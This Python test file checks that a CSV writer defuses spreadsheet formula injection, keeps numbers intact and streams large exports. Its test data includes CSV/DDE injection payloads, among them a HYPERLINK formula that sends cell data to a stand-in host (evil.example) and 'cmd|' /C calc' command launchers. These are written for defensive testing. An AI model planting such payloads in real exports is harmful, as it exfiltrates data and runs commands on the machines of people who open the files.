"""Rows of CSV: what a spreadsheet would run is harmless, numbers stay numbers, and a reader of CSV gets the texts back."""

from __future__ import annotations

import csv
import datetime as dt
import io
import time
from decimal import Decimal

import pytest

from orderhub.formats.csv.cells import CsvRows, for_spreadsheets

SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫−"
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b\u2060=1+1",
    "\x00\x1f=1+1",
    '"=1+1',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "\rplain",
    "\nplain",
    "-",
    "+49 170 1234567",
    "-1-1",
    "−5",
]


def cells(written: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(written, newline=""), delimiter=delimiter))


@pytest.mark.parametrize("formula", FORMULAS, ids=ascii)
def test_a_formula_is_a_text_and_in_quotes(formula: str) -> None:
    line = CsvRows().line(["a", formula, "b"])
    [[before, cell, behind]] = cells(line)
    assert (before, behind) == ("a", "b")
    assert cell.startswith("'")
    assert cell.replace("'", "") == formula.replace("'", "")
    assert ",\"'" in line


@pytest.mark.parametrize("other", [";", "\t", "\n", "\r", "\r\n"], ids=ascii)
@pytest.mark.parametrize("sign", SIGNS)
def test_no_cell_begins_with_a_sign_for_a_reader_of_another_separator(sign: str, other: str) -> None:
    hostile = f'bolt{other} "{sign}cmd|x{other}{sign}1'
    [[cell]] = cells(CsvRows().line([hostile]))
    for part in cell.replace("\r", other).replace("\n", other).split(other):
        assert part.strip(' "\r\n\t')[:1] not in SIGNS or not part.strip(' "\r\n\t')


def test_a_separator_of_the_file_itself_stands_in_quotes() -> None:
    hostile = 'x",=1+1,"y'
    line = CsvRows().line([hostile, "z"])
    assert line == '"x"",=1+1,""y",z\r\n'
    assert cells(line) == [[hostile, "z"]]
    [[cell, _]] = cells(CsvRows(delimiter=";").line([hostile, "z"]), ";")
    assert cell == 'x",\'=1+1,"y'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-5, "-5"),
        (Decimal("-12.50"), "-12.50"),
        (Decimal("1E+3"), "1000"),
        (True, "true"),
        (None, ""),
        (dt.date(2026, 11, 23), "2026-11-23"),
        (dt.datetime(2026, 11, 23, 8, 5, tzinfo=dt.UTC), "2026-11-23T08:05:00+00:00"),
        ("-5", "-5"),
        ("-1.234,56", '"-1.234,56"'),
        ("六角螺栓，镀锌", "六角螺栓，镀锌"),
        ("a - b = c", "a - b = c"),
        ("x@example.com", "x@example.com"),
        (" padded ", '" padded "'),
        ('say "yes"', '"say ""yes"""'),
    ],
    ids=ascii,
)
def test_everything_else_is_as_it_is(value: object, cell: str) -> None:
    assert CsvRows().line([value, "end"]) == f"{cell},end\r\n"  # type: ignore[list-item]  # each is a cell


def test_numbers_take_the_decimal_mark_and_programs_take_texts_as_they_are() -> None:
    assert CsvRows(delimiter=";", decimal=",").line([Decimal("-0.5"), 3]) == '"-0,5";3\r\n'
    assert CsvRows(formulas_kept=True).line(["=1+1", "a;=1"]) == '=1+1,"a;=1"\r\n'


def test_a_file_for_spreadsheets_is_read_as_utf_8_and_made_piece_by_piece() -> None:
    taken = 0

    def rows() -> object:
        nonlocal taken
        for number in range(20_000):
            taken += 1
            yield (number, "六角螺栓", "half \ud800 a pair")

    pieces = for_spreadsheets(["id", "name", "odd"], rows())  # type: ignore[arg-type]  # it yields rows
    first = next(pieces)
    assert first.startswith(b"\xef\xbb\xbfid,name,odd\r\n")
    assert taken < 5_000
    whole = (first + b"".join(pieces)).decode("utf-8-sig")
    assert cells(whole)[1:][19_999] == ["19999", "六角螺栓", "half ? a pair"]


def test_a_text_of_a_million_separators_takes_no_time() -> None:
    write = CsvRows()
    started = time.process_time()
    for text in ("\n" * 1_000_000 + "x", ";" * 1_000_000, "=;\n" * 300_000, " " * 1_000_000):
        write.harmless(text)
    assert time.process_time() - started < 20
